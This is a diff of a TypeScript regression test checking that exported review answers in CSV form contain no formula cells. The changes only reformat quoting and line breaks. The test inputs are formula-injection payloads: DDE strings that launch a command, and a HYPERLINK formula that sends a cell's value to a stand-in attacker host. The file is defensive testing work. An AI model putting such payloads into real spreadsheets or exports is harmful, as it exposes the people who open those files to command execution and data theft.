@@ -13,9 +13,9 @@ import { parseCsv } from '../../app/tables/csv';
 import { tempDir } from '../helpers/temp-case';
 import { CONDITIONS, writeSyntheticCase } from '../app/perceptual/synthetic-case';
 
-const HOSTILE_A = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const HOSTILE_A = "@SUM(1+1)*cmd|' /C calc'!A0";
 const HOSTILE_B = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")';
-const NOTE = '-2+3+cmd|\' /C calc\'!A0';
+const NOTE = "-2+3+cmd|' /C calc'!A0";
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 const csvField = (s: string) => (/[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
@@ -27,13 +27,25 @@ describe('exported answers.csv has no formula cells (issue 24, finding 10)', () 
     const pairsFile = join(dir, 'images', 'pairs.csv');
     const text = readFileSync(pairsFile, 'utf8')
       .split('\n')
-      .map((line, i) => (i === 0 || line === '' ? line : line.replace(`,${CONDITIONS.reference},${CONDITIONS.quantized},`, `,${csvField(HOSTILE_A)},${csvField(HOSTILE_B)},`)))
+      .map((line, i) =>
+        i === 0 || line === ''
+          ? line
+          : line.replace(`,${CONDITIONS.reference},${CONDITIONS.quantized},`, `,${csvField(HOSTILE_A)},${csvField(HOSTILE_B)},`),
+      )
       .join('\n');
     writeFileSync(pairsFile, text);
     const api = await createRecheckService({ workspaceDir: ws, who: 'tester' });
     // Answers without looking (the pixels do not matter here); every note is hostile too.
     let done = await api.startReview({ caseId: 'percept', reviewer: 'scripted-blind', seed: 5 });
-    while (done.next !== null) done = await api.answerReview({ caseId: 'percept', reviewId: done.reviewId, index: done.next.index, answer: 'usable', elapsedMs: 1500, note: NOTE });
+    while (done.next !== null)
+      done = await api.answerReview({
+        caseId: 'percept',
+        reviewId: done.reviewId,
+        index: done.next.index,
+        answer: 'usable',
+        elapsedMs: 1500,
+        note: NOTE,
+      });
     const out = await api.exportReview('percept', done.reviewId);
     const table = parseCsv(readFileSync(join(dir, out.path), 'utf8'), 'answers.csv');
     expect(table.rows.length).toBeGreaterThan(0);
